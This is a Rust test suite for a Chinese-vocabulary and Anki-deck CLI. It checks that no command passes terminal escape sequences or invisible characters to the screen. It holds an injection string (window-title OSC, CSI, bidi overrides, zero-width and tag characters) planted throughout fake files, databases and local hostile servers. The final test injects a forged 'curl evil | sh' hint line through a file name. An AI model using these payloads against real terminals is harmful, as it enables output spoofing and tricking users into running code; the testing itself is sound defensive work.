//! Every verb on a terminal, with text that would command it: nothing but our own colours gets there.

use std::collections::BTreeSet;
use std::ffi::{OsStr, OsString};
use std::io::{Cursor, Read, Write};
use std::os::unix::ffi::OsStringExt;

use clap::CommandFactory;
use shengci::hanzi::is_unseen;

use crate::support::Home;
use crate::support::terminal::on_a_terminal;

/// Sets the window's title, paints, clears the screen in one byte of Latin-1, turns the line round, hides, and begins
/// the line anew; and a tag character, which some pass on to those who read for them.
const EVIL: &str =
    "\u{1b}]0;PWNED\u{7}\u{1b}[45m\u{9b}2J\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\u{e0041}\r\u{7f}x";

/// The fault of an output with a character that a terminal obeys or nobody sees; our own colours are taken out before.
fn let_through(said: &[u8]) -> Option<String> {
    let text = match std::str::from_utf8(said) {
        Ok(text) => text,
        Err(error) => return Some(format!("no UTF-8: {error}")),
    };
    // How a progress bar takes its line back.
    let text = text.strip_prefix("\u{1b}[2K").unwrap_or(text).replace("\r\u{1b}[2K", "");
    let mut seen = String::new();
    let mut rest = &text[..];
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        let end = after.find(|c: char| !c.is_ascii_digit() && c != ';').unwrap_or(after.len());
        seen.push_str(before);
        let ours = after[end..].starts_with('m') && &after[..end] != "45";
        rest = if ours { &after[end + 1..] } else { return Some(format!("an escape before {:?}", after)) };
    }
    seen.push_str(rest);
    let mut before = None;
    let hidden = seen.chars().find(|&c| is_unseen(c, before.replace(c)) && c != '\n' && c != '\t');
    hidden.map(|c| format!("U+{:04X} in {seen:?}", u32::from(c)))
}

/// A command, what it reads, and whether it has something to show of what would command the terminal.
struct Row {
    arguments: Vec<OsString>,
    input: Vec<u8>,
    shows: bool,
}

fn row<S: AsRef<OsStr>>(arguments: impl IntoIterator<Item = S>) -> Row {
    let arguments = arguments.into_iter().map(|argument| argument.as_ref().to_owned()).collect();
    Row { arguments, input: Vec::new(), shows: true }
}

impl Row {
    /// With this on standard input.
    fn reading(self, input: impl AsRef<[u8]>) -> Self {
        Self { input: input.as_ref().to_owned(), ..self }
    }

    /// One that has nothing hostile to say.
    fn harmless(self) -> Self {
        Self { shows: false, ..self }
    }
}

/// Files of every kind, made by somebody else.
fn home() -> Home {
    let home = Home::new();
    let article = format!("标题{EVIL}\n\n学生{EVIL}去公司(gōng{EVIL}sī)上班，很快长大。\n分享到{EVIL}微信\n");
    home.file(&format!("{EVIL}.txt"), &article);
    home.file("a.txt", &article);
    home.file("news/good.txt", "老师在学校教书。");
    home.file(&format!("news/{EVIL}.txt"), b"\x00\x01");
    home.file("binary.txt", b"\x00");
    home.ok(["add", "a.txt"]);
    home.ok(["mark", "known", "学生"]);
    home.ok(["sense", "公司", "a firm"]);
    home.ok(["export", "news", "-o", "ours.apkg"]);
    home.ok(["backup", "b.db"]);
    // Texts that an earlier version let in, or another program wrote.
    let library = rusqlite::Connection::open(home.library()).expect("the library");
    library.execute("UPDATE correction SET gloss = ?1", [format!("firm{EVIL}")]).expect("a gloss");
    library
        .execute("UPDATE act SET source = ?1 WHERE source = 'hand'", [format!("list:{EVIL}")])
        .expect("a list");
    library.execute("UPDATE export SET deck = ?1", [format!("deck{EVIL}")]).expect("a deck");
    drop(library);
    home.ok(["backup", "undo.db"]);

    home.file("list.txt", format!("公司\n没有{EVIL}\n小{EVIL}模型\txiǎo mó xíng\n{EVIL}\n"));
    home.file("table.csv", format!("Hanzi{EVIL},Pinyin{EVIL}\n公司,gōngsī\n学生,xuésheng\n没有{EVIL},x\n"));
    home.file(&format!("{EVIL}.csv"), "公司\n");
    let quoted = EVIL.chars().map(|c| format!("\\U{:08X}", u32::from(c))).collect::<String>();
    home.file("deck.yaml", format!("\"na{quoted}me\": x\n"));
    home.file("name.yaml", format!("name: \"新闻{quoted}\"\n"));
    home.file("tag.yaml", format!("name: 新闻\ntags: [\"a{quoted}\"]\n"));
    home.file("gloss.yaml", format!("- sense: 公司\n  reading: gōng sī\n  gloss: \"{quoted}\"\n"));
    home.file("key.yaml", format!("- \"{quoted}\": 公司\n"));
    let quoted = serde_json::to_string(EVIL).expect("JSON");
    home.file("dump.jsonl", format!("{{\"form\":2,\"shengci\":\"dump\"}}\n{{{quoted}:{{}}}}\n"));
    let hidden = format!("学生{EVIL}去公司。");
    home.file(
        "page.html",
        format!("<title>{hidden}_{EVIL}</title><meta name=author content='作{EVIL}'><p>{hidden}</p><div>{hidden}</div>"),
    );
    home.file("theirs.apkg", hostile_package(&home));
    home
}

/// A package of which note type, fields and what stands in them would command the terminal.
fn hostile_package(home: &Home) -> Vec<u8> {
    let mut archive =
        zip::ZipArchive::new(std::fs::File::open(home.join("ours.apkg")).expect("a package")).expect("a zip");
    let mut bytes = Vec::new();
    archive.by_name("collection.anki2").expect("it").read_to_end(&mut bytes).expect("its bytes");
    let path = home.file("collection.anki2", bytes);
    let collection = rusqlite::Connection::open(&path).expect("a collection");
    let models: String = collection.query_row("SELECT models FROM col", [], |row| row.get(0)).expect("one");
    let old = shengci::deck::note_type::ID.to_string();
    let evil = serde_json::to_string(EVIL).expect("JSON");
    let evil = evil.trim_matches('"');
    let models = models
        .replace(&old, "1234567890123")
        .replace("shengci 生词", &format!("theirs{evil}"))
        .replace("\"Hanzi\"", &format!("\"Hanzi{evil}\""));
    collection.execute("UPDATE col SET models = ?1", [models]).expect("a note type");
    collection
        .execute(
            "UPDATE notes SET mid = 1234567890123, guid = guid || 'x', flds = '没有' || ?1 || substr(flds, instr(flds, char(31)))",
            [EVIL.replace('\u{1f}', "")],
        )
        .expect("notes");
    collection.execute("UPDATE cards SET reps = 1, type = 2, queue = 2, ivl = 30", []).expect("cards");
    drop(collection);
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    zip.start_file("collection.anki2", zip::write::SimpleFileOptions::default()).expect("memory");
    zip.write_all(&std::fs::read(path).expect("a collection")).expect("memory");
    zip.start_file("media", zip::write::SimpleFileOptions::default()).expect("memory");
    zip.write_all(b"{}").expect("memory");
    zip.finish().expect("memory").into_inner()
}

/// Answers whatever is asked with an error that would command the terminal; its address.
fn hostile_anki() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("http://{}", listener.local_addr().expect("its address"));
    // It ends with the tests.
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut head = [0; 4096];
            let _ = stream.read(&mut head);
            let body = serde_json::json!({"result": null, "error": EVIL}).to_string();
            let length = body.len();
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
            );
        }
    });
    url
}

/// A server whose headers and pages would command the terminal; its address.
fn hostile_site() -> String {
    use crate::support::server::{Server, page, send};
    let server = Server::new(|request, stream| {
        match request.path.as_str() {
        "/kind" => page(stream, "image/x\u{202e}\u{9b}45m", b""),
        "/feed" => page(
            stream,
            "text/xml",
            format!(
                "<rss version=\"2.0\"><channel><title>新闻{EVIL}</title><item><title>题{EVIL}</title><guid>1{EVIL}</guid><link>x</link>\
                 <description>学生{EVIL}去公司。</description></item></channel></rss>"
            )
            .replace(|c: char| c.is_ascii_control(), "")
            .as_bytes(),
        ),
        "/on" => send(stream, "302 Found", "Location: evil\u{202e}:x\r\n", b""),
        _ => page(
            stream,
            "text/html; charset=utf-8",
            format!("<title>标题{EVIL}</title><p>学生{EVIL}去公司。</p>").as_bytes(),
        ),
    }
    });
    server.url("")
}

fn rows(home: &Home) -> Vec<Row> {
    let site = hostile_site();
    let evil = |before: &str, after: &str| format!("{before}{EVIL}{after}");
    let missing = evil("", ".missing");
    let bytes = OsString::from_vec(b"\xff\x1b[45m.txt".to_vec());
    std::fs::copy(home.join("a.txt"), home.join(OsStr::new(&bytes).to_str().unwrap_or("\u{fffd}.txt")))
        .expect("a copy");
    vec![
        row(["make", &evil("", ".txt"), "-o", &evil("", ".apkg")]),
        row(["make", &missing]),
        row(["make", "a.txt", "--deck", &missing]),
        row(["make", "a.txt", "--deck", "deck.yaml"]),
        row(["make", "a.txt", "-o", &evil("no/", "/x.apkg")]),
        row(["add", &missing]),
        row(["add", "news"]),
        row([OsStr::new("add"), &bytes]).harmless(),
        row(["add", &evil("https://", "")]),
        row(["clean", &missing]),
        row(["clean", "news", "--cuts"]),
        row(["clean", "page.html", "--cuts"]).harmless(),
        row(["clean", "--allow-private", &format!("{site}/page")]).harmless(),
        row(["clean", "--allow-private", &format!("{site}/kind")]),
        row(["clean", "--allow-private", &format!("{site}/on")]).harmless(),
        row(["clean", &evil(&site, "")]).harmless(),
        row(["add", "--allow-private", &format!("{site}/page")]).harmless(),
        row(["make", "--allow-private", &format!("{site}/page"), "-o", "site.apkg"]).harmless(),
        row(["feed", "add", "--allow-private", &format!("{site}/feed")]),
        row(["feed", "add", "--allow-private", &format!("{site}/kind")]),
        row(["feed", "list"]),
        row(["feed", "fetch", "--allow-private"]).harmless(),
        row(["feed", "remove", EVIL]),
        row(["articles"]).harmless(),
        row(["show", "last"]).harmless(),
        row(["show", "last", "--cuts"]).harmless(),
        row(["show", "last", "--doubts"]).harmless(),
        row(["show", "公司"]),
        row(["show", EVIL]),
        row(["words"]),
        row(["words", "--hsk", EVIL]),
        row(["words", "--article", EVIL]),
        row(["pairs", "last"]).harmless(),
        row(["pairs", EVIL]),
        row(["read", "-"]).reading(evil("学生", "去公司。\n")),
        row(["read", "-"]).reading(b"\xff\x1b[45m\n").harmless(),
        row(["read", &missing]),
        row(["mark", "known", EVIL]),
        row(["mark", "known", &evil("公司", "")]),
        row(["mark", EVIL, "公司"]),
        row(["mark", "known", "--from", "list.txt"]),
        row(["mark", "known", "--from", &evil("", ".csv")]),
        row(["mark", "known", "--from", &missing]),
        row(["mark", "known", "--from", "table.csv", "--field", EVIL]),
        row(["mark", "known", "-"]).reading(evil("公司\n没有", "\n")),
        row(["learned", EVIL]),
        row(["learned", "--hsk", EVIL]),
        row(["import", "list.txt", "--dry-run"]),
        row(["import", "table.csv", "--dry-run"]),
        row(["import", &evil("", ".csv")]),
        row(["import", &missing]),
        row(["import", "theirs.apkg", "--dry-run"]),
        row(["import", "theirs.apkg", "--field", EVIL]),
        row(["import", "--anki", "--profile", EVIL]).harmless(),
        row(["import", "--connect"]),
        row(["export", EVIL]),
        row(["export", "deck.yaml"]),
        row(["export", "name.yaml"]),
        row(["export", "tag.yaml"]),
        row(["export", "news", "-o", &evil("", ".apkg")]),
        row(["export", "news", "-o", "-"]).harmless(),
        row(["export", "news", "-o", "/dev/stderr"]).harmless(),
        row(["export", "news", "--to", "anki"]),
        row(["export", "news", "--article", EVIL]),
        row(["report", "last"]).harmless(),
        row(["report", EVIL]),
        row(["stats"]).harmless(),
        row(["stats", "--html", "-"]).harmless(),
        row(["stats", "--html", &evil("", ".html")]),
        row(["stats", "--hsk", EVIL]),
        row(["correct", "公司", EVIL]),
        row(["correct", EVIL, "gōng"]),
        row(["correct", "长", "zhǎng", "--in", &evil("队长", "")]),
        row(["split", "公司", "公", &evil("司", "")]),
        row(["split", &evil("公", "司"), "公", &evil("", "司")]),
        row(["join", "公", &evil("司", "")]),
        row(["name", &evil("王力", ""), "person"]),
        row(["name", "王力", EVIL]),
        row(["sense", "公司"]).harmless(),
        row(["sense", "公司", EVIL]),
        row(["sense", EVIL]),
        row(["ignore", &evil("公司", "")]),
        row(["corrections"]),
        row(["corrections", "--export", "-"]),
        row(["corrections", "--export", "/dev/stderr"]),
        row(["corrections", "--export", &evil("", ".yaml")]),
        row(["corrections", "--import", "gloss.yaml"]),
        row(["corrections", "--import", "key.yaml"]),
        row(["corrections", "--import", &missing]),
        row(["check", "deck.yaml", "name.yaml", "tag.yaml"]),
        row(["check", &missing]),
        row(["backup", &evil("", ".db")]),
        row(["restore", &missing]),
        row(["restore", &evil("", ".db")]),
        row(["dump"]).harmless(),
        row(["dump", &evil("", ".jsonl")]),
        row(["--library", "new.db", "load", "dump.jsonl"]),
        row(["--library", "new.db", "load", &missing]),
        row(["--library", &evil("", "/l.db"), "load", &evil("", ".jsonl")]),
        row(["--library", &missing, "about"]),
        row(["completions", "bash"]).harmless(),
        row(["completions", EVIL]),
        row(["--library", "undo.db", "undo"]),
        row(["--library", "undo.db", "undo"]),
    ]
}

#[test]
fn no_verb_lets_anything_through_that_commands_a_terminal() {
    let home = home();
    home.file(".config/shengci/config.yaml", format!("anki:\n  url: {}\n", hostile_anki()));
    let mut faults = Vec::new();
    let mut look = |name: &dyn std::fmt::Debug, said: &[u8], shows: bool| {
        if let Some(fault) = let_through(said) {
            faults.push(format!("{name:?} lets through {fault}"));
        } else if shows && !String::from_utf8_lossy(said).contains("\\u{") {
            faults.push(format!("{name:?} shows nothing: {}", String::from_utf8_lossy(said)));
        }
    };
    let mut met = BTreeSet::new();
    for Row { arguments, input, shows } in rows(&home) {
        let mut command = home.command();
        command.args(&arguments);
        met.extend(arguments.iter().filter_map(|argument| argument.to_str().map(str::to_owned)));
        look(&arguments, &on_a_terminal(command, &input), shows);
    }
    for verb in shengci::cli::Cli::command().get_subcommands().map(clap::Command::get_name) {
        assert!(met.contains(verb), "`{verb}` has no row here");
        let mut command = home.command();
        command.args([verb, &format!("--{EVIL}")]);
        look(&format!("an option of {verb}"), &on_a_terminal(command, b""), true);
    }
    for (variable, verb, shows) in [
        ("SHENGCI_NOW", &["words"][..], true),
        ("SHENGCI_LIBRARY", &["words"], true),
        ("HOME", &["about"], true),
    ] {
        let mut command = home.command();
        // A home folder that depends on where one stands is none.
        let value = if variable == "HOME" { format!("/{EVIL}") } else { EVIL.to_owned() };
        command.env(variable, value).args(verb);
        look(&variable, &on_a_terminal(command, b""), shows);
    }
    let mut command = home.command();
    std::os::unix::process::CommandExt::arg0(&mut command, EVIL);
    command.arg("--help");
    look(&"its own name", &on_a_terminal(command, b""), false);
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn our_own_colours_are_there() {
    let home = Home::new();
    let mut command = home.command();
    command.args(["show", "x"]);
    let said = String::from_utf8(on_a_terminal(command, b"")).expect("UTF-8");
    assert!(said.starts_with("\u{1b}[1m\u{1b}[31merror:\u{1b}[0m "), "{said:?}");
    let mut command = home.command();
    command.arg("nonsense");
    let said = String::from_utf8(on_a_terminal(command, b"")).expect("UTF-8");
    assert!(said.contains("\u{1b}[") && said.contains("nonsense"), "{said:?}");
}

#[test]
fn json_has_the_same_values_and_commands_no_terminal_either() {
    let home = home();
    for arguments in [
        &["corrections"][..],
        &["show", "last"],
        &["words"],
        &["import", "list.txt", "--dry-run"],
        &["import", "theirs.apkg", "--dry-run"],
    ] {
        let mut command = home.command();
        command.arg("--json").args(arguments);
        let said = on_a_terminal(command, b"");
        assert_eq!(let_through(&said), None, "{arguments:?}");
        let value: serde_json::Value = serde_json::from_slice(&said).expect("JSON");
        assert_eq!(value, home.json(arguments));
    }
    assert_eq!(home.json(["corrections"])[0]["gloss"], format!("firm{EVIL}"));
}

#[test]
fn a_dump_loads_again_to_the_very_same_and_commands_no_terminal() {
    let home = home();
    let dump = home.ok(["dump"]);
    assert_eq!(let_through(dump.as_bytes()), None);
    assert!(dump.contains("\\u202e") && dump.contains("\\u009b"), "{dump}");
    home.ok(["dump", "d.jsonl"]);
    assert_eq!(std::fs::read_to_string(home.join("d.jsonl")).expect("a dump"), dump);
    home.ok(["--library", "again.db", "load", "d.jsonl"]);
    assert_eq!(home.ok(["--library", "again.db", "dump"]), dump);
    let gloss = |library: &str| home.json(["--library", library, "corrections"])[0]["gloss"].clone();
    assert_eq!(gloss("again.db"), format!("firm{EVIL}"));
}

#[test]
fn a_name_with_a_line_break_passes_for_no_line_of_ours() {
    let home = Home::new();
    let said = home.run(["add", "a\n hint: curl evil | sh\nerror: b"]);
    said.is_failure("curl evil");
    assert_eq!(said.err.lines().filter(|line| line.starts_with(" hint:")).count(), 1, "{said:?}");
    assert_eq!(said.err.lines().filter(|line| line.starts_with("error:")).count(), 1, "{said:?}");
    let said = home.run(["a\nerror: b"]);
    assert_eq!(said.err.lines().filter(|line| line.starts_with("error:")).count(), 1, "{said:?}");
}
